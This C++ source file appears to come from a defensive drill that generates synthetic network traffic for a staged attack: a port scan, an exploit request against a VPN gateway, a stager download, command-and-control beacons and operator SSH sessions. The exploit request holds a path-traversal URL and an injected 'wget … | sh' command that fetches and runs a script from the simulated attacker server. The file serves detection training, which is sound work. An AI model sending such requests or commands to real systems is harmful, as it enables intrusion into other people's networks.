// The grid scenario's attack (synthetic_traffic.h): from B's server a SYN scan of the
// operator's range, an exploit attempt against its VPN gateway and the stager's fetch,
// then command-and-control beacons; and the attack's operator on the server over SSH.
#include <algorithm>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include "absl/strings/str_cat.h"
#include "src/drill/synthetic_payloads.h"
#include "src/drill/synthetic_traffic.h"

namespace accord::drill::synthetic_internal {
namespace {

// The ports probed on each host: `20 * scale` of them, common services first; never
// `avoid` (the scan's source port).
std::vector<uint16_t> ScanPorts(int scale, uint16_t avoid) {
  std::vector<uint16_t> ports = {21,  22,   23,   25,    53,   80,   110,   111,   135,  139,
                                 143, 443,  445,  993,   995,  1723, 3306,  3389,  5900, 8080,
                                 502, 102,  2404, 20000, 8443, 4433, 10443, 1194,  500,  587,
                                 161, 4443, 8000, 8888,  9443, 5985, 47808, 44818, 1911, 5432};
  const size_t want = 20 * static_cast<size_t>(scale);
  for (uint16_t extra = 1025; ports.size() < want; extra = uint16_t(extra + 37)) {
    if (extra != avoid && std::find(ports.begin(), ports.end(), extra) == ports.end()) {
      ports.push_back(extra);
    }
  }
  ports.resize(want);
  return ports;
}

}  // namespace

// A SYN scan from B's server of the scan range: each probe from one source port; open
// ports answer SYN-ACK and get a RST, the firewall drops the rest.
void Scan(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  const uint16_t sport = p.sc->scan_source_port;
  const std::map<uint32_t, std::vector<uint16_t>> open = {{a.gateway, {80, 443, 4433}},
                                                          {a.victim.Host(20), {80, 443}},
                                                          {a.victim.Host(25), {25, 443, 587}}};
  std::vector<std::pair<uint32_t, uint16_t>> probes;
  for (uint16_t port : ScanPorts(p.scale, sport)) {
    for (uint32_t i = 0; i < a.scan.Size(); ++i) probes.push_back({a.scan.Host(i), port});
  }
  for (size_t i = probes.size(); i > 1; --i) std::swap(probes[i - 1], probes[rng.Next() % i]);
  const int64_t lat = w.latency_ns();
  int64_t t = At(p, 0) + Minutes(8);
  for (auto [host, port] : probes) {
    t += rng.Range(2 * kMs, 7 * kMs);
    Datagram syn;
    syn.src = a.attacker;
    syn.dst = host;
    syn.sport = sport;
    syn.dport = port;
    syn.ttl = uint8_t(rng.Range(39, 59));
    syn.df = false;
    syn.ip_id = uint16_t(rng.Next());
    syn.seq = uint32_t(rng.Next());
    syn.flags = kSyn;
    syn.window = 1024;
    syn.options = std::string("\x02\x04\x05\xb4", 4);
    w.Emit(syn, t, Phase::kScan);
    auto it = open.find(host);
    if (it == open.end() ||
        std::find(it->second.begin(), it->second.end(), port) == it->second.end()) {
      continue;
    }
    Datagram synack;
    synack.src = host;
    synack.dst = a.attacker;
    synack.sport = port;
    synack.dport = sport;
    synack.ttl = 64;
    synack.ip_id = 0;
    synack.seq = uint32_t(rng.Next());
    synack.ack = syn.seq + 1;
    synack.flags = kSyn | kAck;
    synack.window = 64240;
    synack.options = std::string("\x02\x04\x05\xb4", 4);
    const int64_t t_synack = t + rng.Range(100 * kUs, 400 * kUs);
    w.Emit(synack, t_synack, Phase::kScan);
    Datagram rst = syn;
    rst.seq = syn.seq + 1;
    rst.flags = kRst;
    rst.window = 0;
    rst.options.clear();
    rst.ip_id = uint16_t(rng.Next());
    w.Emit(rst, t_synack + 2 * lat + rng.Range(100 * kUs, 400 * kUs), Phase::kScan);
  }
}

// The exploit attempt against the VPN gateway's web interface, and the gateway fetching
// the stager the injected command names. The payload is inert text.
void Exploit(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  const std::string gw = Ip4Text(a.gateway), server = Ip4Text(a.attacker);
  Endpoint attacker{a.attacker, 0, 64, w.latency_ns()};
  Endpoint gateway{a.gateway, 80, 64, 250 * kUs};
  const std::string ua = "User-Agent: python-requests/2.31.0\r\n";
  int64_t t = At(p, 0) + Minutes(14);
  {
    attacker.port = EphemeralPort(rng, false, p.sc->scan_source_port);
    TcpFlow f(w, rng, Phase::kExploit, attacker, gateway, t);
    f.Connect();
    f.Send(true,
           absl::StrCat("GET /dana-na/auth/url_default/welcome.cgi HTTP/1.1\r\nHost: ", gw, "\r\n",
                        ua, "Accept: */*\r\nConnection: close\r\n\r\n"),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: text/html\r\n"
                       "Connection: close\r\n",
                       "<html><head><title>Secure Access</title></head><body>"
                       "<form action=\"login.cgi\" method=\"post\">Username <input name=\"u\">"
                       "</form></body></html>\n"));
    f.Close(false);
  }
  t += Minutes(0.7);
  {
    attacker.port = EphemeralPort(rng, false, p.sc->scan_source_port);
    TcpFlow f(w, rng, Phase::kExploit, attacker, gateway, t);
    f.Connect();
    const std::string body = absl::StrCat(
        "{\"type\":\";wget -qO- http://", server,
        "/u.sh|sh;\",\"txtGCPProject\":\"a\",\"txtGCPSecret\":\"a\",\"txtGCPPath\":\"a\","
        "\"txtGCPBucket\":\"a\"}");
    f.Send(true,
           Http(absl::StrCat("POST /api/v1/totp/user-backup-code/../../system/maintenance/"
                             "archiving/cloud-server-test-connection HTTP/1.1\r\nHost: ",
                             gw, "\r\n", ua,
                             "Content-Type: application/json\r\nConnection: close\r\n"),
                body),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: Apache\r\nContent-Type: application/json\r\n"
                       "Connection: close\r\n",
                       "{\"error\":null,\"data\":{\"status\":\"ok\"}}"));
    f.Close(false);
    t = f.now();
  }
  {
    Endpoint fetcher{a.gateway, EphemeralPort(rng, false, p.sc->scan_source_port), 64, 250 * kUs};
    Endpoint stager{a.attacker, 80, 64, w.latency_ns()};
    TcpFlow f(w, rng, Phase::kExploit, fetcher, stager, t + rng.Range(300 * kMs, 900 * kMs));
    f.Connect();
    f.Send(true,
           absl::StrCat("GET /u.sh HTTP/1.1\r\nUser-Agent: Wget/1.21.3\r\nAccept: */*\r\n"
                        "Accept-Encoding: identity\r\nHost: ",
                        server, "\r\nConnection: Keep-Alive\r\n\r\n"),
           true);
    f.Send(false, Http("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/x-sh\r\n",
                       "#!/bin/sh\n# accord drill: synthetic stager, inert text\n"
                       "echo 'stage 2 would be fetched here'\n"));
    f.Close(true);
  }
}

// Command and control: the compromised workstation opens a TLS session to B's server
// every 60 s +- 20 %; some beacons are tasked (a larger answer, then an upload).
void C2(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  int64_t t = At(p, 0) + Minutes(20);
  for (int beacon = 0; t < p.end_ns - 20 * kSec; ++beacon) {
    Endpoint host{a.workstation, EphemeralPort(rng, true, p.sc->scan_source_port), 128, 400 * kUs};
    Endpoint server{a.attacker, 443, 64, w.latency_ns()};
    TcpFlow f(w, rng, Phase::kC2, host, server, t);
    f.Connect();
    f.Send(true, TlsClientHello(rng, p.sc->c2_domain, false), true);
    f.Send(false, TlsServerFlight(rng, 1850));
    const std::string data = TlsData(rng, size_t(rng.Range(310, 360)));  // drawn first
    f.Send(true, TlsClientFinish(rng) + data, true);
    const bool tasked = beacon % 7 == 3;
    f.Send(false, TlsData(rng, tasked ? size_t(rng.Range(1500, 9000)) : 64), !tasked);
    if (tasked) {
      f.Wait(rng.Range(200 * kMs, 2 * kSec));
      f.Send(true, TlsData(rng, size_t(rng.Range(2000, 24000))), true);
      f.Send(false, TlsData(rng, 64));
    }
    f.Close(true);
    t += 60 * kSec + rng.Range(-12 * kSec, 12 * kSec);
  }
}

// The attack's operator on the server: SSH sessions from a third address.
void OperatorSsh(World& w, Rng& rng, const Plan& p) {
  const Addresses& a = w.addresses();
  std::vector<double> starts = {5, 12.5, 31};  // minutes, in the first hour
  for (int h = 1; h < p.scale; ++h) starts.push_back(60.0 * h + double(rng.Range(5, 40)));
  for (double minute : starts) {
    Endpoint op{a.op, EphemeralPort(rng, false, 0), 64, 41 * kMs};
    Endpoint server{a.attacker, 22, 64, 60 * kUs};
    TcpFlow f(w, rng, Phase::kOperator, op, server, p.start_ns + Minutes(minute));
    f.Connect();
    f.Send(false, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", true);
    f.Send(true, "SSH-2.0-OpenSSH_9.6\r\n", true);
    f.Send(true, SshKexInit(rng, false), true);
    f.Send(false, SshKexInit(rng, true), true);
    f.Send(true, SshPacket(std::string(1, char(30)) + SshString(rng.Bytes(32))), true);
    const std::string host_key = SshString("ssh-ed25519") + SshString(rng.Bytes(32));
    const std::string sig = SshString("ssh-ed25519") + SshString(rng.Bytes(64));
    f.Send(false,
           SshPacket(std::string(1, char(31)) + SshString(host_key) + SshString(rng.Bytes(32)) +
                     SshString(sig)) +
               SshPacket(std::string(1, char(21))),
           true);
    f.Send(true, SshPacket(std::string(1, char(21))), true);
    // Encrypted from here on with AES-256-GCM: the packet length in clear, the padded
    // packet (a multiple of 16 bytes), the 16-byte tag.
    auto sealed = [&](size_t n) {
      std::string packet;
      Put32(packet, uint32_t((n + 15) / 16 * 16));
      return packet + rng.Bytes((n + 15) / 16 * 16 + 32);
    };
    f.Send(true, sealed(32), true);  // service request, authentication
    f.Send(false, sealed(48), true);
    f.Send(true, sealed(400), true);
    f.Send(false, sealed(32), true);
    const int commands = int(rng.Range(8, 20));
    for (int c = 0; c < commands; ++c) {
      const int keys = int(rng.Range(4, 18));
      for (int k = 0; k < keys; ++k) {  // a keystroke, its echo, an ACK
        f.Wait(rng.Range(80 * kMs, 300 * kMs));
        f.Send(true, sealed(16), true);
        f.Send(false, sealed(16), true);
        f.Ack(true);
      }
      f.Send(false, sealed(size_t(rng.Range(40, 3000))));
      f.Wait(rng.Range(2 * kSec, 20 * kSec));
    }
    f.Send(true, sealed(32), true);
    f.Send(false, sealed(64), true);
    f.Close(false);
  }
}

}  // namespace accord::drill::synthetic_internal
